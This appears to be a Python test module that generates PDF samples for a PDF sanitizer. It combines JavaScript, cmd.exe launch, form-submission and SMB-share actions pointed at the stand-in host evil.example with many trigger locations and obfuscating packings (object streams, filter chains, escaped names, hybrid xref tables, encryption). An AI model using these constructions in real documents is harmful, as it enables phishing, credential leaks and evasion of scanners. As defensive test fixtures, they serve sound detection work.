"""PDFs made by a grammar: an action of each kind, in each place where actions stand, packed in each way in which files are written."""

import base64
import re
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO

import pikepdf

from tests.samples import PDF_HEAD, pdf_of, stream

Objects = list[bytes]

# What is refused wherever it stands.
ALWAYS = {
    "a script": b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
    "a script in a stream": b"<< /S /JavaScript /JS 9 0 R >>",
    "a script with a type": b"<< /Type /Action /S /JavaScript /JS <6170702e616c65727428312929> >>",
    "a program": b"<< /S /Launch /F (cmd.exe) >>",
    "a program of Windows": b"<< /S /Launch /Win << /F (cmd.exe) >> >>",
    "a rendition": b"<< /S /Rendition /OP 0 /R << /S /MR >> >>",
    "a rendition's script": b"<< /S /Rendition /JS (app.alert\\(1\\)) >>",
    "rich media": b"<< /S /RichMediaExecute /CMD << /C (play) >> >>",
}
# What is refused where no click starts it.
BY_ITSELF = {
    "a form that is sent": b"<< /S /SubmitForm /F (https://evil.example/) >>",
    "data that are loaded": b"<< /S /ImportData /F (a.fdf) >>",
    "a web address": b"<< /S /URI /URI (https://evil.example/) >>",
    "a file of a share": b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >>",
    "a file of a share in the notation of PDF": b"<< /S /GoToR /F << /Type /Filespec /UF (//evil.example/share/a.pdf) >> /D [0 /Fit] >>",
    "a file of a host": b"<< /S /GoToE /F (file://evil.example/a.pdf) /D [0 /Fit] /T << /R /C >> >>",
    "a file of the web": b"<< /S /GoToE /F << /FS /URL /F (http://evil.example/a.pdf) >> /D [0 /Fit] /T << /R /C >> >>",
    "a thread of a share": b"<< /S /Thread /F (\\\\\\\\evil.example\\\\a.pdf) /D 0 >>",
}
ACTIONS = ALWAYS | BY_ITSELF

Place = Callable[[bytes], dict[str, bytes]]
# Further entries of the catalog, of the page and of its annotation.
OPENED: dict[str, Place] = {
    "on opening": lambda action: {"catalog": b"/OpenAction " + action},
    "on opening, after another": lambda action: {"catalog": b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next %s >>" % action},
    "on opening, among others": lambda action: {"catalog": b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [ << /S /Named /N /LastPage >> %s ] >>" % action},
    "on opening, two after": lambda action: {"catalog": b"/OpenAction << /S /GoTo /Next << /S /Named /N /Print /Next %s >> >>" % action},
    "on closing": lambda action: {"catalog": b"/AA << /WC %s >>" % action},
    "on printing": lambda action: {"catalog": b"/AA << /DP << /S /Named >> /WP %s >>" % action},
    "on opening a page": lambda action: {"page": b"/AA << /O %s >>" % action},
    "on closing a page": lambda action: {"page": b"/AA << /C %s >>" % action},
    "on showing an annotation": lambda action: {"annotation": b"/AA << /PV %s >>" % action},
    "on moving over an annotation": lambda action: {"annotation": b"/AA << /E %s >>" % action},
    "on leaving a field": lambda action: {"annotation": b"/FT /Tx /T (a) /AA << /Bl %s >>" % action, "catalog": b"/AcroForm << /Fields [4 0 R] >>"},
    "on typing into a field": lambda action: {"annotation": b"/FT /Tx /T (a) /AA << /K %s >>" % action, "catalog": b"/AcroForm << /Fields [4 0 R] >>"},
    "in a field without a widget": lambda action: {"catalog": b"/AcroForm << /Fields [ << /T (a) /Kids [ << /T (b) /AA << /F %s >> >> ] >> ] >>" % action},
}
CLICKED: dict[str, Place] = {
    "on clicking a link": lambda action: {"annotation": b"/A " + action},
    "on clicking a button": lambda action: {"annotation": b"/FT /Btn /T (a) /A " + action, "catalog": b"/AcroForm << /Fields [4 0 R] >>"},
    "on pressing": lambda action: {"annotation": b"/AA << /D %s >>" % action},
    "on clicking, after another": lambda action: {"annotation": b"/A << /S /GoTo /D [3 0 R /Fit] /Next [ %s ] >>" % action},
    "on clicking a bookmark": lambda action: {
        "catalog": b"/Outlines << /First << /Title (a) /Next << /Title (b) /First << /Title (c) /A %s >> >> >> /Count 1 >>" % action
    },
    "in a presentation": lambda action: {"page": b"/PresSteps << /Type /NavNode /NA %s >>" % action},
}
PLACES = OPENED | CLICKED
NAMED: dict[str, Place] = {
    "in the tree of scripts": lambda action: {"catalog": b"/Names << /JavaScript << /Names [ (a) %s ] >> >>" % action},
    "in a branch of the tree of scripts": lambda action: {
        "catalog": b"/Names << /JavaScript << /Kids [ << /Limits [(a) (b)] /Names [ (a) %s ] >> ] >> >>" % action
    },
}


def objects_of(*, catalog: bytes = b"", page: bytes = b"", annotation: bytes = b"", more: Objects | None = None) -> Objects:
    """One page with a link, and a stream with a script as object 9, to which nothing leads by itself."""
    return [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] /Contents 8 0 R /Resources << /Font << /F1 5 0 R >> >> %s >>" % page,
        b"<< /Type /Annot /Subtype %s /Rect [0 0 9 9] %s >>" % (b"/Widget" if b"/FT" in annotation else b"/Link", annotation),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"null",
        b"null",
        stream(b"BT /F1 12 Tf 20 100 Td (Purchase order 4711) Tj ET"),
        stream(b"app.alert(1)"),
        *(more or []),
    ]


@dataclass(frozen=True, slots=True)
class Packed:
    """Objects in an object stream. `entries` are those of its dictionary besides what it needs."""

    pack: Callable[[bytes], bytes]
    filters: bytes
    type_entry: bytes = b"/Type /ObjStm"
    line_end: bytes = b"\n"

    def __call__(self, objects: Objects) -> bytes:
        """All objects but streams are packed; the last two are the object stream and the cross-reference stream."""
        numbers = [number for number, body in enumerate(objects, 1) if b"stream" not in body]
        content = bytearray(PDF_HEAD)
        places = {}
        for number, body in enumerate(objects, 1):
            if number not in numbers:
                places[number] = len(content)
                content += b"%d 0 obj %s endobj\n" % (number, body)
        holder, table = len(objects) + 1, len(objects) + 2
        places[holder] = len(content)
        inside = self.pack(_together(objects, numbers))
        head = b" ".join(b"%d %d" % (number, at) for number, at in _offsets(objects, numbers))
        entries = b"%s /N %d /First %d /Length %d %s" % (self.type_entry, len(numbers), len(head) + 1, len(inside), self.filters)
        content += b"%d 0 obj << %s >> stream%s%s\nendstream endobj\n" % (holder, entries, self.line_end, inside)
        places[table] = len(content)
        rows = bytearray(bytes(5))
        for number in range(1, table + 1):
            kind, one, two = (2, holder, numbers.index(number)) if number in numbers else (1, places[number], 0)
            rows += bytes([kind]) + one.to_bytes(3, "big") + bytes([two])
        entries = b"/Type /XRef /Size %d /W [1 3 1] /Root 1 0 R /Length %d" % (table + 1, len(rows))
        content += b"%d 0 obj << %s >> stream\n%s\nendstream endobj\n" % (table, entries, rows)
        return bytes(content) + b"startxref\n%d\n%%%%EOF\n" % places[table]


def _offsets(objects: Objects, numbers: list[int]) -> list[tuple[int, int]]:
    at, offsets = 0, []
    for number in numbers:
        offsets.append((number, at))
        at += len(objects[number - 1]) + 1
    return offsets


def _together(objects: Objects, numbers: list[int]) -> bytes:
    head = b" ".join(b"%d %d" % (number, at) for number, at in _offsets(objects, numbers))
    return head + b"\n" + b"\n".join(objects[number - 1] for number in numbers) + b"\n"


def _run_length(content: bytes) -> bytes:
    pieces = [content[at : at + 128] for at in range(0, len(content), 128)]
    return b"".join(bytes([len(piece) - 1]) + piece for piece in pieces) + b"\x80"


def _lzw(content: bytes) -> bytes:
    """Without a dictionary: every code has nine bits as long as the table is cleared before it grows."""
    bits = "".join(f"{code:09b}" for at in range(0, len(content), 200) for code in (256, *content[at : at + 200])) + f"{257:09b}"
    return int(bits.ljust(-(-len(bits) // 8) * 8, "0"), 2).to_bytes(-(-len(bits) // 8), "big")


def _predicted(content: bytes) -> bytes:
    """By PNG's rule Up, in rows of five."""
    rows = [content[at : at + 5].ljust(5) for at in range(0, len(content), 5)]
    before = [bytes(5), *rows]
    return zlib.compress(
        b"".join(b"\x02" + bytes((one - two) % 256 for one, two in zip(row, above, strict=True)) for row, above in zip(rows, before, strict=False))
    )


def _escaped(objects: Objects) -> bytes:
    """Every letter of every name as its number."""
    hidden = [re.sub(rb"(?<=/)[A-Za-z]+", lambda name: b"".join(b"#%02x" % letter for letter in name[0]), body) for body in objects]
    return pdf_of([body if b"stream" in body else after for body, after in zip(objects, hidden, strict=True)])


def _updated(objects: Objects) -> bytes:
    """A file without the action, to which a later revision of its objects is added."""
    first = pdf_of([*objects_of(), *objects[9:]])
    content = bytearray(first)
    rows = b""
    for number in (1, 3, 4):
        rows += b"%d 1\n%010d 00000 n \n" % (number, len(content))
        content += b"%d 0 obj %s endobj\n" % (number, objects[number - 1])
    start = len(content)
    before = first.rpartition(b"startxref\n")[2].split()[0]
    return bytes(content) + b"xref\n%strailer << /Size %d /Root 1 0 R /Prev %s >>\nstartxref\n%d\n%%%%EOF\n" % (rows, len(objects) + 1, before, start)


def _hybrid(objects: Objects) -> bytes:
    """The annotation and everything from object 10 on are free in the table; an object stream has them, which only the second table knows."""
    hidden = [4, *range(10, len(objects) + 1)]
    content = bytearray(PDF_HEAD)
    places = {}
    for number, body in enumerate(objects, 1):
        if number not in hidden:
            places[number] = len(content)
            content += b"%d 0 obj %s endobj\n" % (number, body)
    holder, table = len(objects) + 1, len(objects) + 2
    places[holder] = len(content)
    head = b" ".join(b"%d %d" % (number, at) for number, at in _offsets(objects, hidden))
    content += b"%d 0 obj %s endobj\n" % (
        holder,
        stream(_together(objects, hidden), b"/Type /ObjStm /N %d /First %d" % (len(hidden), len(head) + 1)),
    )
    places[table] = len(content)
    rows = b"".join(bytes([2]) + holder.to_bytes(3, "big") + bytes([place]) for place in range(len(hidden)))
    index = b" ".join(b"%d 1" % number for number in hidden)
    content += b"%d 0 obj %s endobj\n" % (table, stream(rows, b"/Type /XRef /Size %d /W [1 3 1] /Index [%s]" % (table + 1, index)))
    start = len(content)
    lines = [b"0000000000 00000 f " if number in hidden else b"%010d 00000 n " % places[number] for number in range(1, table + 1)]
    content += b"xref\n0 %d\n0000000000 65535 f \n%s\n" % (table + 1, b"\n".join(lines))
    return bytes(content) + b"trailer << /Size %d /Root 1 0 R /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n" % (table + 1, places[table], start)


ENTRIES = {0: re.compile(rb"/(?:OpenAction|AA|Names|Outlines|AcroForm) "), 2: re.compile(rb"/(?:AA|PresSteps) ")}


def _apart(pack: Callable[[Objects], bytes]) -> Callable[[Objects], bytes]:
    """The entries of catalog and page in objects of their own, from number 10 on, so that they can be hidden."""

    def packed(objects: Objects) -> bytes:
        moved = list(objects)
        for number, pattern in ENTRIES.items():
            if entry := pattern.search(moved[number]):
                moved.append(moved[number][entry.end() :].removesuffix(b">>").strip())
                moved[number] = moved[number][: entry.end()] + b"%d 0 R >>" % len(moved)
        return pack(moved)

    return packed


def _encrypted(version: int, *, is_aes: bool) -> Callable[[Objects], bytes]:
    def pack(objects: Objects) -> bytes:
        """Opens without a password, but has one for its owner."""
        written = BytesIO()
        with pikepdf.open(BytesIO(pdf_of(objects))) as document:
            encryption = pikepdf.Encryption(owner="owner", user="", R=version, aes=is_aes, metadata=is_aes)
            document.save(written, encryption=encryption, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
        return written.getvalue()

    return pack


PACKINGS: dict[str, Callable[[Objects], bytes]] = {
    "encrypted, before zeros": lambda objects: _encrypted(4, is_aes=True)(objects) + bytes(4096),
    "as it is": pdf_of,
    "behind a printer's commands": lambda objects: pdf_of(objects, head=b"\x1b%-12345X@PJL JOB\r\n@PJL ENTER LANGUAGE=PDF\r\n" + b" " * 900 + PDF_HEAD),
    "before zeros": lambda objects: pdf_of(objects) + bytes(4096),
    "without its end": lambda objects: pdf_of(objects).rpartition(b"%%EOF")[0],
    "without its table": lambda objects: pdf_of(objects).partition(b"xref\n")[0] + b"trailer << /Root 1 0 R >>\n",
    "with escaped names": _escaped,
    "in a later revision": _updated,
    "with two tables": _apart(_hybrid),
    "packed by Flate": Packed(zlib.compress, b"/Filter /FlateDecode"),
    "packed by nothing": Packed(bytes, b""),
    "packed by Flate twice": Packed(lambda content: zlib.compress(zlib.compress(content)), b"/Filter [/FlateDecode /FlateDecode]"),
    "packed by Flate and a predictor": Packed(_predicted, b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 5 >>"),
    "packed in hex digits": Packed(lambda content: content.hex().encode() + b">", b"/Filter /ASCIIHexDecode"),
    "packed by Flate in hex digits": Packed(lambda content: zlib.compress(content).hex().encode() + b">", b"/Filter [/AHx /Fl]"),
    "packed in base 85": Packed(lambda content: base64.a85encode(content) + b"~>", b"/Filter /ASCII85Decode"),
    "packed by run length": Packed(_run_length, b"/Filter /RunLengthDecode"),
    "packed by LZW": Packed(_lzw, b"/Filter /LZWDecode"),
    "packed without a type": Packed(zlib.compress, b"/Filter /FlateDecode", type_entry=b""),
    "packed beside the word": Packed(zlib.compress, b"/Filter /FlateDecode", type_entry=b"/Type /ObjStm /X (stream\nxx)"),
    "packed behind a carriage return": Packed(zlib.compress, b"/Filter /FlateDecode", line_end=b"\r"),
    "packed behind a space": Packed(zlib.compress, b"/Filter /FlateDecode", line_end=b" \n"),
    "encrypted by RC4 with 40 bits": _encrypted(2, is_aes=False),
    "encrypted by RC4 with 128 bits": _encrypted(3, is_aes=False),
    "encrypted by AES with 128 bits": _encrypted(4, is_aes=True),
    "encrypted by AES with 256 bits": _encrypted(6, is_aes=True),
}

WORDS = b"JavaScript /JavaScript /JS /Launch /OpenAction << /S /JavaScript /JS \\(app.alert\\(1\\)\\) >> /RichMedia /SubmitForm <script>"
# The same names where they are text, or where nothing looks for an action.
MENTIONS: dict[str, dict[str, bytes]] = {
    "in a link": {"annotation": b"/A << /S /URI /URI (https://developer.mozilla.org/en-US/docs/Web/JavaScript) >>"},
    "in a link to a shop": {"annotation": b"/A << /S /URI /URI (https://shop.example/Launch-Event?id=/RichMedia) >>"},
    "in a bookmark": {"catalog": b"/Outlines << /First << /Title (%s) /Dest [3 0 R /Fit] >> /Count 1 >>" % WORDS},
    "in a field's value": {"annotation": b"/FT /Tx /T (/JavaScript) /V (%s)" % WORDS, "catalog": b"/AcroForm << /Fields [4 0 R] >>"},
    "in a note": {"annotation": b"/Contents (%s)" % WORDS},
    "as the name of a value": {"annotation": b"/V /JavaScript /DV /Launch", "page": b"/LastModified (/S /Launch)"},
    "as the role of a paragraph": {"catalog": b"/StructTreeRoot << /Type /StructTreeRoot /K << /Type /StructElem /S /JavaScript /P 1 0 R /K 0 >> >>"},
    "in the data of another program": {"page": b"/PieceInfo << /Editor << /Private << /JavaScript (%s) >> >> >>" % WORDS},
    "in no tree of scripts": {"catalog": b"/Names << /JavaScript << /Names [] >> >>"},
    "in a name of a place": {"catalog": b"/Names << /Dests << /Names [ (/JavaScript) [3 0 R /Fit] (Launch) [3 0 R /Fit] ] >> >>"},
    "in a page label": {"catalog": b"/PageLabels << /Nums [0 << /S /D /P (/JavaScript ) >>] >>"},
}
